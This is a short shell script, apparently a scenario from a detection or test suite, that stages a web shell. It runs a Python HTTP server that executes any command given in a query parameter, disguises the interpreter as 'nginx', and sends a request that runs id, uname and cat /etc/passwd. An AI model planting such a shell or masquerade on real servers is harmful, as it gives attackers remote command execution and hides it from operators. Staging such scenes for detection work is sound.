# A web shell: a server that was made to run what a request says. The server is a small one under a great one's name.
. "$(dirname "$0")/scene.sh"
mkdir -p srv/cgi-bin
cp "$(readlink -f /usr/bin/python3)" srv/nginx
cat >srv/serve.py <<'END'
import http.server, os, sys, urllib.parse
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        query = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)
        answer = os.popen(query["c"][0]).read().encode()
        self.send_response(200)
        self.end_headers()
        self.wfile.write(answer)
    def log_message(self, *args): pass
server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
open("port", "w").write(str(server.server_port))
server.serve_forever()
END
srv/nginx srv/serve.py &
server=$!
while [ ! -s port ]; do sleep 0.1; done
deed service-shell
curl -s "http://127.0.0.1:$(cat port)/?c=id;uname+-a;cat+/etc/passwd" >/dev/null
kill "$server"
